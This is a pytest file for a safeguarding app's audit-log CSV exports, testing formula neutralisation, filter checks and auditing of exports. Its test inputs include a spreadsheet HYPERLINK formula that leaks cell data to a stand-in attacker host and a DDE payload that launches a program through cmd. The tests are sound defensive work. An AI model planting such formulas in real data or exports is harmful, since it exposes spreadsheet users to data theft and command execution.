"""CSV exports of the audit listings: every listing downloads, formulas are neutralised, the export is audited."""

import csv
import io

import pytest

import audit
from app.extensions import db
from safeguarding.audit_csv import csv_text, neutralise
from tests.web.helpers import audit_events

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def read_csv(response) -> list[dict]:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    assert response.mimetype == "text/csv" and "attachment" in response.headers["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\uff1d"])
def test_cells_a_spreadsheet_would_run_get_a_leading_apostrophe(start):
    assert neutralise(f"{start}1+1") == f"'{start}1+1"


@pytest.mark.parametrize("spaces", [" ", "   ", "\u00a0", "\u3000 "])
def test_a_formula_after_leading_spaces_is_neutralised_too(spaces):
    assert neutralise(f"{spaces}=1+1") == f"'{spaces}=1+1"


@pytest.mark.parametrize(
    "value", ["view", "Mozilla/5.0", "a=b", " a=b", "3f2b6c1e-0d7a-4e59-9b8e-2c4f1a6d9e30", "", "   "]
)
def test_ordinary_text_is_left_alone(value):
    assert neutralise(value) == value


def test_numbers_booleans_and_missing_values_are_plain_cells():
    assert (neutralise(12), neutralise(True), neutralise(None)) == (12, "yes", "")
    assert csv_text(["a", "b"], [["=1", -3]]) == "a,b\r\n'=1,-3\r\n"


def test_a_formula_in_a_user_agent_is_neutralised_in_the_export(lead, lead_client, login, accesses):
    login(accesses.worker).get(f"/people/{accesses.child.id}", headers={"User-Agent": FORMULA})
    rows = read_csv(lead_client.get(f"/audit/export/person-access.csv?person_id={accesses.child.id}"))
    from_page = [r for r in rows if r["user_agent"].endswith('"Click")')]
    assert from_page and all(r["user_agent"] == "'" + FORMULA for r in from_page)
    assert {(r["actor_user_id"], r["action"]) for r in from_page} >= {(accesses.worker.id, "view")}
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
    (export,) = audit_events("export")
    assert export.actor_user_id == lead.id
    assert export.detail_dict == {"view": "person_access", "filters": {"person_id": accesses.child.id}}


def test_a_formula_in_an_object_id_or_a_refused_caller_agent_is_neutralised(lead_client, login, accesses):
    # Object ids come from callers too (an imported record's reference, a route's argument).
    audit.record(
        db.session, action="denied", actor=accesses.officer, object_type="route", object_id="=1+1", outcome="denied"
    )
    db.session.commit()
    login(accesses.officer).get("/audit/people", headers={"User-Agent": "@SUM(1+1)*cmd|' /C calc'!A0"})
    rows = read_csv(lead_client.get("/audit/export/refused.csv"))
    assert "'=1+1" in [r["object_id"] for r in rows]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [r["user_agent"] for r in rows]


def test_every_listing_exports(lead_client, accesses):
    people = read_csv(lead_client.get(f"/audit/export/person-access.csv?person_id={accesses.child.id}"))
    assert {r["action"] for r in people} >= {"create", "view", "break_glass", "denied"}
    glass = [r for r in people if r["action"] == "view" and r["actor_user_id"] == accesses.youth.id]
    assert glass[0]["basis"] == "Emergency access (break-glass)" and glass[0]["break_glass_reason"]
    activity = read_csv(lead_client.get(f"/audit/export/user-activity.csv?user_id={accesses.youth.id}"))
    assert {r["action"] for r in activity} == {"view", "break_glass"}
    refused = read_csv(lead_client.get("/audit/export/refused.csv"))
    assert {r["outcome"] for r in refused} == {"denied"}
    grants = read_csv(lead_client.get("/audit/export/break-glass.csv"))
    assert [r["grant_id"] for r in grants] == [accesses.grant.id]
    assert grants[0]["events_under_grant"] == "2"
    monitoring = lead_client.get("/audit/export/monitoring.csv")
    assert monitoring.get_data(as_text=True).startswith("rule,description,at,actor_user_id,")
    assert [e.detail_dict["view"] for e in audit_events("export")] == [
        "person_access",
        "user_activity",
        "refused",
        "break_glass_queue",
        "monitoring",
    ]


def test_an_export_without_its_filter_is_refused(lead_client):
    assert lead_client.get("/audit/export/person-access.csv").status_code == 422
    assert lead_client.get("/audit/export/user-activity.csv?user_id=nobody").status_code == 422
    for day in ("someday", "0001-01-01", "9999-12-31"):
        assert lead_client.get(f"/audit/export/monitoring.csv?day={day}").status_code == 422, day
    assert lead_client.get("/audit/export/everything.csv").status_code == 404
    assert audit_events("export") == []
